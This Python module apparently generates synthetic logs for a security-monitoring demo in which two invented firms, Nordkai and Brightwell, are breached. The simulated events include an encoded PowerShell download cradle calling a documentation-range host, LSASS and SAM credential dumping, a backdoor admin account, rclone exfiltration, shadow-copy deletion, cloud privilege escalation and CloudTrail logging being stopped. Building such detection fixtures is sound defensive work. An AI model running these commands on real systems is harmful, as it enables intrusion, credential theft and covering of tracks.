"""The demo's storyline: two customers, one bad hour each, in the middle of an ordinary day.

Nordkai Logistik: a mail attachment opens PowerShell, passwords are dumped, freight papers leave by rclone, and the
thief goes on in the cloud with a stolen key. Brightwell Clinics: passwords are guessed against a terminal server, and
the root account of its cloud switches the audit trail off. All names, addresses and people are invented; addresses
are from the blocks that RFC 5737 keeps for documentation.
"""

import base64
from collections.abc import Iterator
from datetime import datetime, timedelta
from itertools import chain
from typing import Final

import msgspec

from watchfloor.ops.demo.noise import cloud_noise, nxlog_noise, ssh_noise, windows_noise
from watchfloor.ops.demo.wire import Caller, Document, Machine, cloudtrail, nxlog_security, process, security, sysmon

NORDKAI: Final = "nordkai"
BRIGHTWELL: Final = "brightwell"
MINUTES: Final = 60

_POWERSHELL: Final = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_SYSTEM: Final = "C:\\Windows\\System32\\"
_CMD: Final = f"{_SYSTEM}cmd.exe"
_WINWORD: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_C2: Final = "203.0.113.66"
_THIEF_AGENT: Final = "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.6.9-kali1-amd64 lang/python#3.11.8"
_BROWSER: Final = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/128.0.0.0 Safari/537.36"

_PETERSEN: Final = "NORDKAI\\l.petersen"
_WS17: Final = Machine(name="NK-WS-017", domain="nordkai.example", address="10.20.3.17")
_FILES: Final = Machine(name="NK-FS-01", domain="nordkai.example", address="10.20.1.11")


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


_CRADLE: Final = f"IEX (New-Object Net.WebClient).DownloadString('http://{_C2}/a')"
_COMMANDS: Final = (
    (12.0, _POWERSHELL, f"-nop -w hidden -enc {_encoded(_CRADLE)}", _WINWORD),
    (19.0, f"{_SYSTEM}rundll32.exe", f"{_SYSTEM}comsvcs.dll, MiniDump 712 C:\\ProgramData\\o.dmp full", _POWERSHELL),
    (22.0, f"{_SYSTEM}reg.exe", "save HKLM\\SAM C:\\ProgramData\\s.hiv", _POWERSHELL),
    (24.0, f"{_SYSTEM}net.exe", "user wartung Sommer-2026! /add", _CMD),
    (24.2, f"{_SYSTEM}net.exe", "localgroup Administratoren wartung /add", _CMD),
    (
        26.0,
        f"{_SYSTEM}schtasks.exe",
        '/create /sc hourly /tn "OneDrive Sync" /tr "powershell -w hidden -f C:\\ProgramData\\s.ps1"',
        _CMD,
    ),
    (
        41.0,
        "C:\\ProgramData\\rclone.exe",
        "copy \\\\NK-FS-01\\freight remote:nk --config C:\\ProgramData\\r.conf",
        _CMD,
    ),
    (52.0, f"{_SYSTEM}vssadmin.exe", "delete shadows /all /quiet", _CMD),
)
"""Minute, program, arguments and parent of what runs on the workstation."""

_NORDKAI_MACHINES: Final = (
    *(Machine(name=f"NK-WS-{n:03d}", domain="nordkai.example", address=f"10.20.3.{n}") for n in range(21, 29)),
    _FILES,
)
_NORDKAI_USERS: Final = ("NORDKAI\\a.brandt", "NORDKAI\\j.hansen", "NORDKAI\\m.kaya", "NORDKAI\\s.lorenz")
_TIMES: Final = ("@timestamp", "EventTime", "eventTime")
_NORDKAI_ACCOUNT: Final = "210987654321"

_TS1: Final = Machine(name="BW-TS-01", domain="brightwell.example", address="10.40.1.5")
_NEW_ACCOUNT: Final = "S-1-5-21-1004336348-1177238915-682003330-1105"
_BRIGHTWELL_MACHINES: Final = tuple(
    Machine(name=f"BW-PC-{n:02d}", domain="brightwell.example", address=f"10.40.2.{n}") for n in range(11, 17)
)
_BRIGHTWELL_PACS: Final = Machine(name="bw-pacs-01", domain="brightwell.example", address="10.40.1.9")
_BRIGHTWELL_USERS: Final = ("BRIGHTWELL\\a.kelly", "BRIGHTWELL\\s.walsh", "BRIGHTWELL\\n.byrne")
_BRIGHTWELL_ACCOUNT: Final = "345678901234"


class Delivery(msgspec.Struct, frozen=True, kw_only=True):
    """What one sender sends: documents or lines in the order of their time, to one feed of one tenant."""

    tenant: str
    feed: str
    documents: list[Document] = []
    lines: list[str] = []
    """Messages of syslog, for a feed at that door."""

    def bodies(self) -> list[bytes]:
        """What goes over the wire."""
        return [*map(msgspec.json.encode, self.documents), *(line.encode() for line in self.lines)]


def storyline(end: datetime) -> list[Delivery]:
    """Everything that is sent: the hour before `end`, attack and ordinary traffic together."""
    start = end - timedelta(minutes=MINUTES)
    return [
        Delivery(
            tenant=NORDKAI,
            feed="windows",
            documents=_in_order(
                windows_noise(_NORDKAI_MACHINES, _NORDKAI_USERS, start=start, minutes=MINUTES, count=2400, seed=11),
                _nordkai_endpoint(start),
            ),
        ),
        Delivery(
            tenant=NORDKAI,
            feed="cloudtrail",
            documents=_in_order(
                cloud_noise(
                    _NORDKAI_ACCOUNT, ("deploy", "monitoring"), start=start, minutes=MINUTES, count=600, seed=12
                ),
                _nordkai_cloud(start),
            ),
        ),
        Delivery(
            tenant=BRIGHTWELL,
            feed="servers",
            documents=_in_order(
                nxlog_noise(_BRIGHTWELL_MACHINES, _BRIGHTWELL_USERS, start=start, minutes=MINUTES, count=700, seed=13),
                _brightwell_server(start),
            ),
        ),
        Delivery(
            tenant=BRIGHTWELL,
            feed="cloudtrail",
            documents=_in_order(
                cloud_noise(_BRIGHTWELL_ACCOUNT, ("backup", "pacs"), start=start, minutes=MINUTES, count=300, seed=14),
                _brightwell_cloud(start),
            ),
        ),
        Delivery(
            tenant=BRIGHTWELL,
            feed="linux",
            lines=sorted(
                ssh_noise(
                    _BRIGHTWELL_PACS, ("backup", "pacs", "monitoring"), start=start, minutes=MINUTES, count=120, seed=15
                ),
                key=lambda line: line.split(" ", 2)[1],
            ),
        ),
    ]


def _in_order(*sources: Iterator[Document]) -> list[Document]:
    """The sources' documents by their own time, whose text sorts as it runs."""
    return sorted(
        chain(*sources), key=lambda document: str(next(document[name] for name in _TIMES if name in document))
    )


def _nordkai_endpoint(start: datetime) -> Iterator[Document]:
    """Foothold, credential dumping, persistence, theft of freight papers, and the attempt to wipe the traces."""
    for record, (minute, image, arguments, parent) in enumerate(_COMMANDS, start=700_001):
        yield process(
            _WS17,
            start + timedelta(minutes=minute),
            record,
            image=image,
            command=f'"{image}" {arguments}',
            parent=parent,
            parent_command=f'"{parent}"',
            user=_PETERSEN,
        )
    yield from _nordkai_traces(start)


def _nordkai_traces(start: datetime) -> Iterator[Document]:
    """What else the machine notices of it: the connection, the opened memory, the emptied log."""
    yield sysmon(
        _WS17,
        start + timedelta(minutes=12.1),
        700_101,
        event_id=3,
        data={
            "Image": _POWERSHELL,
            "User": _PETERSEN,
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": _WS17.address,
            "SourcePort": "50112",
            "DestinationIp": _C2,
            "DestinationPort": "80",
        },
    )
    yield sysmon(
        _WS17,
        start + timedelta(minutes=19.1),
        700_102,
        event_id=10,
        data={
            "SourceImage": "C:\\Windows\\System32\\rundll32.exe",
            "TargetImage": "C:\\Windows\\System32\\lsass.exe",
            "GrantedAccess": "0x1fffff",
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2e5a1",
            "SourceUser": _PETERSEN,
            "TargetUser": "NT AUTHORITY\\SYSTEM",
        },
    )
    yield security(
        _WS17,
        start + timedelta(minutes=53),
        700_103,
        event_id=1102,
        data={"SubjectUserName": "l.petersen", "SubjectDomainName": "NORDKAI", "SubjectLogonId": "0x3e7a1"},
    )


def _nordkai_cloud(start: datetime) -> Iterator[Document]:
    """A key found on the workstation is used from outside: who am I, a second key, more rights, no more trail."""
    thief = Caller(account=_NORDKAI_ACCOUNT, user="deploy", address=_C2, agent=_THIEF_AGENT)
    calls: tuple[tuple[float, str, str, Document], ...] = (
        (31.0, "sts.amazonaws.com", "GetCallerIdentity", {}),
        (32.0, "iam.amazonaws.com", "CreateAccessKey", {"userName": "backup-admin"}),
        (
            33.0,
            "iam.amazonaws.com",
            "AttachUserPolicy",
            {"userName": "deploy", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
        ),
        (36.0, "secretsmanager.amazonaws.com", "GetSecretValue", {"secretId": "prod/wms/database"}),
        (
            44.0,
            "s3.amazonaws.com",
            "PutBucketPolicy",
            {
                "bucketName": "nordkai-freight",
                "bucketPolicy": {
                    "Version": "2012-10-17",
                    "Statement": [
                        {
                            "Effect": "Allow",
                            "Principal": "*",
                            "Action": "s3:GetObject",
                            "Resource": "arn:aws:s3:::nordkai-freight/*",
                        }
                    ],
                },
            },
        ),
        (47.0, "cloudtrail.amazonaws.com", "StopLogging", {"name": "organisation-trail"}),
    )
    for minute, source, name, parameters in calls:
        at = start + timedelta(minutes=minute)
        yield cloudtrail(at, thief, source=source, name=name, parameters=parameters)


def _brightwell_server(start: datetime) -> Iterator[Document]:
    """Passwords are guessed until one fits; then a service is installed and an account made."""
    logon = {
        "TargetDomainName": "BRIGHTWELL",
        "LogonType": "10",
        "LogonProcessName": "User32 ",
        "AuthenticationPackageName": "Negotiate",
        "WorkstationName": _TS1.name,
        "IpAddress": "198.51.100.23",
        "IpPort": "51820",
    }
    for attempt in range(40):
        yield nxlog_security(
            _TS1,
            start + timedelta(minutes=14, seconds=attempt * 4),
            800_001 + attempt,
            event_id=4625,
            data={"TargetUserName": "s.walsh", "Status": "0xC000006D", "SubStatus": "0xC000006A", **logon},
        )
    yield nxlog_security(
        _TS1, start + timedelta(minutes=17), 800_101, event_id=4624, data={"TargetUserName": "s.walsh", **logon}
    )
    yield nxlog_security(
        _TS1,
        start + timedelta(minutes=21),
        800_102,
        event_id=4720,
        data={
            "SubjectUserName": "s.walsh",
            "SubjectDomainName": "BRIGHTWELL",
            "TargetUserName": "svc_update",
            "TargetDomainName": "BW-TS-01",
            "TargetSid": _NEW_ACCOUNT,
        },
    )
    yield nxlog_security(
        _TS1,
        start + timedelta(minutes=21.5),
        800_103,
        event_id=4732,
        data={
            "SubjectUserName": "s.walsh",
            "SubjectDomainName": "BRIGHTWELL",
            "MemberName": "-",
            "MemberSid": _NEW_ACCOUNT,
            "TargetUserName": "Administrators",
            "TargetDomainName": "Builtin",
            "TargetSid": "S-1-5-32-544",
        },
    )


def _brightwell_cloud(start: datetime) -> Iterator[Document]:
    """The root account signs in without a second factor and stops the trail."""
    root = Caller(account=_BRIGHTWELL_ACCOUNT, user="root", address="198.51.100.23", agent=_BROWSER)
    yield cloudtrail(
        start + timedelta(minutes=35),
        root,
        source="signin.amazonaws.com",
        name="ConsoleLogin",
        response={"ConsoleLogin": "Success"},
    )
    yield cloudtrail(
        start + timedelta(minutes=38),
        root,
        source="cloudtrail.amazonaws.com",
        name="StopLogging",
        parameters={"name": "clinic-trail"},
    )
